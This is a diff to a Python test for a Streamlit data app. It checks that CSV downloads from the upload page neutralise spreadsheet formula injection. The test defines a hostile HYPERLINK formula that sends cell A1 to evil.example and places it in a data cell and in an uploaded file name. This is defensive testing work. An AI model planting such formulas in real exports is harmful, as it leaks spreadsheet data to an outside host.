@@ -16,6 +16,8 @@ import streamlit as st
 from streamlit.delta_generator import DeltaGenerator
 from streamlit.testing.v1 import AppTest
 
+from i18n import t
+
 ROOT = Path(__file__).resolve().parents[2]
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klicka")'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
@@ -95,8 +97,20 @@ def test_every_csv_download_is_defused(monkeypatch, hostile_db, downloads, brief
     for page in PAGES:
         at.switch_page(page).run()
         assert not at.exception, (page, at.exception)
+    # The upload page's own downloads: a file's problems and a file's revisions.
+    at.switch_page("pages/upload.py").run()
+    wrong = f"indicator_id,period,area_code,value\nreported_rape,2026-01,STHLM,{HOSTILE}\n"
+    revised = (
+        "indicator_id,period,area_code,value\nreported_partner_violence_women,2026-01,STHLM,741\n"
+    )
+    files = [("fel.csv", wrong.encode()), (f"{HOSTILE}.csv", revised.encode())]
+    at.file_uploader(key="upload_files").set_value([(n, b, "text/csv") for n, b in files]).run()
+    assert not at.exception, at.exception
+    labels = {label for label, _ in downloads}
+    if brief == "0":  # briefing mode shows a file's counts only: no problem list, no revisions
+        assert {t("upload_download_errors"), t("upload_download_revisions")} <= labels
     payloads = [data for _, data in downloads if isinstance(data, bytes)]
-    assert len(payloads) >= 7  # template, two catalog files, indicator, history, events, audit
+    assert len(payloads) >= 8  # template, two catalog files, indicator, history, events, audit
     cells = [cell for payload in payloads for cell in csv_cells(payload)]
     assert not [c for c in cells if c.startswith(FORMULA_START)]
     found = "\n".join(cells)
